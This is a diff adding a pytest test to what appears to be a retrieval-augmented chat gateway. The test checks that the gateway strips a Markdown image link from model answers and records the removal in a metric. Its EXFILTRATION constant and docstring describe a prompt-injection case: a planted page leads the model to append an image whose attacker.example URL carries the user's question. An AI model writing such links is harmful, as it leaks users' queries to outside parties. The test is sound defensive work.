@@ -71,3 +71,26 @@ async def test_both_ways_give_the_same_checked_answer(make_settings: Callable, g
     assert checks > 1 if during else checks == 1
     timings = body["ragguard"]["timings"]
     assert timings["generation"] > (answer.count(" ") * 0.05 if during else 0)
+
+
+EXFILTRATION = f"{SUPPORTED} ![](https://attacker.example/log?q=what+port)"  # what a planted page asks the model for
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_an_image_the_sources_do_not_hold_never_reaches_the_client(make_settings: Callable, gateway: Callable,
+                                                                        stream: bool) -> None:
+    """An engine led by a planted instruction (fault injection: the real small engines will not write it on cue)
+    ends its answer with an image whose address carries the question; a Markdown client would fetch it unasked.
+    Under the default annotate policy, streamed by sentence or whole, the client gets the answer without it."""
+    port = free_port()
+    with faulty_engine(port, "ok", answer=EXFILTRATION):
+        async with gateway(make_settings(engine_url=f"http://127.0.0.1:{port}")) as client:
+            r = await client.post(CHAT, json={**QUESTION, "stream": stream})
+            assert r.status_code == 200, r.text
+            sent = r.text if stream else r.json()["choices"][0]["message"]["content"]
+            text = (await client.get("/metrics")).text
+        async with gateway(make_settings(engine_url=f"http://127.0.0.1:{port}", answer_links="any")) as client:
+            kept = (await client.post(CHAT, json=QUESTION)).json()["choices"][0]["message"]["content"]
+    assert "attacker.example" not in sent and "8080" in sent
+    assert metric(text, "ragguard_answer_links_removed_total", kind="image") == 1
+    assert "https://attacker.example/log?q=what+port" in kept  # RAGGUARD_ANSWER_LINKS=any: as the engine wrote it
